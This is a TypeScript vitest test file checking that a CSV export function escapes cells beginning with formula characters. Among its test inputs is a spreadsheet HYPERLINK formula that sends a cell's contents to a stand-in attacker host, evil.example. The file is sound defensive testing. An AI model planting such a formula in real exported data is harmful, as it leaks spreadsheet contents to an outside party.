import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/domain/shared/csv';

/** The cells of the one data row, read back the way a spreadsheet would get them. */
function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data).toHaveLength(2);
  return parsed.data[1]!;
}

describe('toCsv', () => {
  it('escapes every cell that starts like a formula, one line or more (a textarea adds line breaks)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      for (const text of [
        `${start}HYPERLINK("http://evil.example/?x="&A1,"click")`,
        `${start}1+1\nsecond line\r\nthird`,
      ]) {
        expect(cellsOf(toCsv(['Text', 'Other'], [{ Text: text, Other: 'x' }]))).toEqual([`'${text}`, 'x']);
      }
    }
  });

  it('leaves other cells as typed, line breaks and a formula sign after the start included', () => {
    const text = 'Deploys on Friday\n=SUM(A1:A9)\n- and more';
    expect(cellsOf(toCsv(['Text'], [{ Text: text }]))).toEqual([text]);
  });
});
